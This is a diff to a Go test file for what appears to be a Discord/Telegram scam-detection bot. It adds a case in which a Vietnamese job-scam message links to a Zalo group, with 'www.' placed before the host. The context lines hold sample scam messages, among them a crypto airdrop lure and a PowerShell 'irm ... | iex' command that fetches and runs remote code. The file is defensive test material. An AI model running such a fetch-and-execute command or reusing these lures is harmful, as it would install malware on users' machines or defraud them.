@@ -11,7 +11,7 @@ import (
 // and the same message with its link written another way people write
 // one (an ellipsis, an emoji or a full-width bracket glued to it, a full
 // stop after it, Discord's spoiler bars, a masked link showing its own
-// address); both must get the same level, and the first must be flagged
+// address, www. before a host); both must get the same level, and the first must be flagged
 // or not as it is a scam's or not.
 func TestVerdictHoldsAsWritten(t *testing.T) {
 	t.Parallel()
@@ -38,6 +38,8 @@ func TestVerdictHoldsAsWritten(t *testing.T) {
 			"KuCoin airdrop is live now, claim before it ends: ||kucoin-bonus.live/claim||", nil},
 		{"pasted command in a spoiler", true, "hey bro this fixes the FPS drop in valorant, just paste in powershell: irm https://fpsboost-tool.net/run | iex", bot.Discord,
 			"hey bro this fixes the FPS drop in valorant, just paste in powershell: irm ||https://fpsboost-tool.net/run|| | iex", nil},
+		{"group invite, www. before the host", true, "Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://zalo.me/g/qwe123abc", bot.Telegram,
+			"Tuyển CTV làm việc online tại nhà, nhận hoa hồng 15% mỗi đơn, tham gia nhóm Zalo: https://www.zalo.me/g/qwe123abc", nil},
 		{"masked link showing its own address", false, page, bot.Discord, page, []bot.LinkRef{{Text: page, URL: page}}},
 		{"full stop after a path", false, "the visual6502 sim is still up http://www.visual6502.org/JSSim/index.html you can watch the transistors switch", bot.Telegram,
 			"the visual6502 sim is still up http://www.visual6502.org/JSSim/index.html. you can watch the transistors switch", nil},
